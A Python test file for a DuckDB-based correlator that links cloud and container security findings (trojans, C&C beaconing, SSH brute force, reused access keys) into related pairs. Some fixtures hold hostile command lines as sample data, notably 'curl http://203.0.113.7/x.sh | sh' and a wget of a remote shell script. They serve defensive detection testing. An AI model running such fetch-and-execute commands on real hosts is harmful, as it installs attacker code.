"""What comes with a package or an image, and whose shells run in one place."""

import duckdb
import pytest

from tests.sql.support import PLACE, at, container, given, part, peer, process
from tests.sql.test_corresponding_things import DAY, TOOL, pairs, told

SCRIPT = "/app/node_modules/left/postinstall"


def runs(
    con: duckdb.DuckDBPyConnection,
    name: str,
    minute: float,
    kind: str,
    above: str = "/usr/bin/cp",
    path: str = SCRIPT,
) -> None:
    """A finding of one program, by hash, in a container of its own, below another program."""
    told(con, name, minute, finding_type=kind)
    given(con, "flattened.containers", container(name, name, minute, image_key=f"{name}:1"))
    given(
        con,
        "flattened.processes",
        process(name, f"{name}-above", depth=1, updated=minute, executable_path=above, started_at=at(-DAY)),
        process(
            name, name, f"{name}-above", updated=minute, executable_path=path, executable_sha256="ab" * 32
        ),
    )


@pytest.mark.parametrize(
    ("kind", "above", "path", "is_tied"),
    [
        ("Trojan:Runtime/DropPoint!DNS", "/usr/bin/cp", SCRIPT, True),
        ("Impact:Runtime/SuspiciousDomainRequest.Reputation", "/usr/bin/npm", SCRIPT, True),
        # A roll-out: an agent that was unpacked, and asks for its collector.
        ("Impact:Runtime/SuspiciousDomainRequest.Reputation", "/usr/bin/cp", SCRIPT, False),
        # Tools that anybody may bring lie where anybody may write.
        ("Trojan:Runtime/DropPoint!DNS", "/usr/bin/cp", "/tmp/chisel", False),
    ],
)
def test_a_program_that_is_installed_in_several_images_and_calls_what_is_malicious_ties_them(
    con: duckdb.DuckDBPyConnection, kind: str, above: str, path: str, is_tied: bool
) -> None:
    for number, name in enumerate(("a", "b")):
        runs(con, name, number * DAY, "Execution:Runtime/NewBinaryExecuted", above, path)
    runs(con, "c", 2 * DAY, kind, above, path)
    expected = [("b", "a", "same_installed_program"), ("c", "b", "same_installed_program")]
    assert pairs(con, "same_installed_program") == (expected if is_tied else [])


def shells(con: duckdb.DuckDBPyConnection, name: str, minute: float, kind: str, below: str = "/app") -> None:
    """A finding of a shell of its own in one container."""
    told(con, name, minute, finding_type=kind)
    given(con, "flattened.containers", container(name, "c1", minute))
    first = process(
        name, f"{below}", depth=1, updated=minute, namespace_pid=1, executable_path=below, started_at=at(-DAY)
    )
    given(con, "flattened.processes", first, process(name, name, below, updated=minute, started_at=at(-1)))


@pytest.mark.parametrize(
    ("kind", "minute", "is_tied"),
    [
        ("Persistence:Runtime/SuspiciousCommand", 60, True),
        ("Persistence:Runtime/SuspiciousCommand", 61, False),
        ("Execution:Runtime/SuspiciousCommand", 1, False),
        (TOOL, 1, False),
    ],
)
def test_suspicious_commands_of_two_shells_in_one_place_are_tied_if_they_differ(
    con: duckdb.DuckDBPyConnection, kind: str, minute: float, is_tied: bool
) -> None:
    shells(con, "a", 0, "Execution:Runtime/SuspiciousCommand")
    shells(con, "b", minute, kind)
    assert pairs(con, "commands_in_place") == ([("b", "a", "commands_in_place")] if is_tied else [])


@pytest.mark.parametrize(
    ("kind", "minute", "is_tied"),
    [
        ("Backdoor:Runtime/C&CActivity.B!DNS", 180, True),
        ("Backdoor:Runtime/C&CActivity.B!DNS", 181, False),
        ("Impact:Runtime/SuspiciousDomainRequest.Reputation", 1, False),
    ],
)
def test_a_service_that_calls_home_is_tied_to_who_works_in_it_afterwards(
    con: duckdb.DuckDBPyConnection, kind: str, minute: float, is_tied: bool
) -> None:
    told(con, "service", 0, finding_type=kind)
    given(con, "flattened.containers", container("service", "c1"))
    own = process("service", "/app", namespace_pid=1, executable_path="/app", started_at=at(-DAY))
    given(con, "flattened.processes", own)
    shells(con, "work", minute, TOOL)
    assert pairs(con, "attacked_service") == ([("work", "service", "attacked_service")] if is_tied else [])


def says(con: duckdb.DuckDBPyConnection, name: str, minute: float, line: str, host: str) -> None:
    told(con, name, minute, finding_type="Execution:Runtime/SuspiciousCommand")
    given(con, "flattened.instances", part(name, minute, **PLACE, instance_id=host))
    given(con, "flattened.runtime_contexts", part(name, minute, command_line_example=line))


def test_one_command_that_names_an_address_ties_the_hosts_where_it_runs(
    con: duckdb.DuckDBPyConnection,
) -> None:
    for number in (1, 2):
        says(con, f"h{number}", number * 60, "curl http://203.0.113.7/x.sh | sh", f"i-{number}")
    says(con, "resolver", 90, "ping 8.8.8.8", "i-1")
    says(con, "again", 100, "ping 8.8.8.8", "i-2")
    assert pairs(con, "same_remote_address") == [("h2", "h1", "same_remote_address")]


@pytest.mark.parametrize(("place", "is_tied"), [("i-1", True), ("i-2", False)])
def test_an_address_that_guesses_passwords_and_is_named_by_a_command_on_the_host_got_in(
    con: duckdb.DuckDBPyConnection, place: str, is_tied: bool
) -> None:
    guess = {"finding_type": "UnauthorizedAccess:EC2/SSHBruteForce", "action_type": "NETWORK_CONNECTION"}
    told(con, "guess", 0, **guess)
    given(con, "flattened.instances", part("guess", 0, **PLACE, instance_id="i-1"))
    given(con, "flattened.network_peers", peer("guess", "203.0.113.7", direction="INBOUND"))
    says(con, "command", 60, "wget http://203.0.113.7/bins.sh", place)
    expected = [("command", "guess", "same_address_and_place")]
    assert pairs(con, "same_address_and_place") == (expected if is_tied else [])


@pytest.mark.parametrize(("session", "is_tied"), [("i-0123456789abcdef0", True), ("i-other", False)])
def test_a_host_that_calls_an_address_and_its_keys_used_from_there_are_tied_for_two_weeks(
    con: duckdb.DuckDBPyConnection, session: str, is_tied: bool
) -> None:
    told(con, "beacon", 0, finding_type="Backdoor:EC2/C&CActivity.B")
    given(con, "flattened.instances", part("beacon", 0, **PLACE, instance_id="i-0123456789abcdef0"))
    told(con, "use", 14 * DAY, finding_type="Discovery:S3/AnomalousBehavior")
    keys = {"principal_id": f"AROA:{session}", "principal_session_name": session, "user_name": "role"}
    given(con, "flattened.access_keys", part("use", 14 * DAY, **keys))
    for name, minute in (("beacon", 0), ("use", 14 * DAY)):
        given(con, "flattened.network_peers", peer(name, "203.0.113.7", minute))
    expected = [("use", "beacon", "same_address_and_place")]
    assert pairs(con, "same_address_and_place") == (expected if is_tied else [])


def test_refused_calls_with_one_key_are_of_whoever_found_it(con: duckdb.DuckDBPyConnection) -> None:
    for number, refused in enumerate(("AccessDenied", "AccessDenied", None, None)):
        name, minute = f"c{number}", number * 60.0
        told(con, name, minute)
        given(con, "flattened.access_keys", part(name, minute, access_key_id="AKIA1", user_name="ana"))
        given(con, "flattened.api_calls", part(name, minute, error_code=refused))
    assert pairs(con, "same_credentials") == [("c3", "c2", "same_credentials")]
